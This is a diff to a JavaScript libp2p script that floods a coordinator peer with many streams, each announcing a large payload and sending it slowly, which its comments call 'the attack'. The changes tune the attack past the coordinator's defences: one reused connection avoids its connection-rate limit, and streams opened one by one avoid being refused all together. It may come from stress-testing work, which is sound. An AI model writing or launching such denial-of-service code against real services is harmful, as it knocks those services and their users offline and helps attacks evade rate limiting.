@@ -32,7 +32,9 @@ const PER_STREAM = ANNOUNCED - CHUNK
 const ROUND_MS = 20
 
 const node = await createLibp2p({ transports: [tcp()], connectionEncrypters: [noise()], streamMuxers: [yamux()] })
-const addr = multiaddr(coordinator)
+// One connection, dialled once: every stream opens on it, so a refused stream never turns into a
+// new dial (the coordinator's host turns away more than a few connections a second).
+const connection = await node.dial(multiaddr(coordinator))
 const chunk = new Uint8Array(CHUNK)
 const stats = { opened: 0, refused: 0, reset: 0, sentMb: 0 }
 let opens = 0
@@ -41,7 +43,7 @@ let opens = 0
 async function open () {
   opens++
   try {
-    const stream = await node.dialProtocol(addr, PROTOCOL_COORDINATOR)
+    const stream = await connection.newStream(PROTOCOL_COORDINATOR)
     if (!await send(stream, encodeVarint(ANNOUNCED))) throw new Error('reset')
     stats.opened++
     return { stream, sent: 0 }
@@ -69,16 +71,21 @@ async function send (stream, data) {
 }
 
 const started = performance.now()
-const slots = await Promise.all(Array.from({ length: streams }, open))
+// Streams open one at a time: opened together, they race the coordinator's count of them and may
+// all be refused, which would spare it the attack.
+const slots = []
+for (let i = 0; i < streams; i++) slots.push(await open())
 console.log(JSON.stringify({ msg: 'holding', opened: stats.opened }))
 while (performance.now() - started < durationMs) {
-  await Promise.all(slots.map(async (slot, i) => {
+  for (let i = 0; i < slots.length; i++) {
+    const slot = slots[i]
     if (slot === undefined || slot.stream.status !== 'open') {
       if (slot !== undefined) { stats.reset++; slots[i] = undefined }
       if (opens < 2 * streams) slots[i] = await open()
-      return
     }
-    if (slot.sent >= PER_STREAM) return
+  }
+  await Promise.all(slots.map(async (slot) => {
+    if (slot === undefined || slot.sent >= PER_STREAM) return
     if (await send(slot.stream, chunk)) {
       slot.sent += CHUNK
       stats.sentMb += CHUNK / MiB
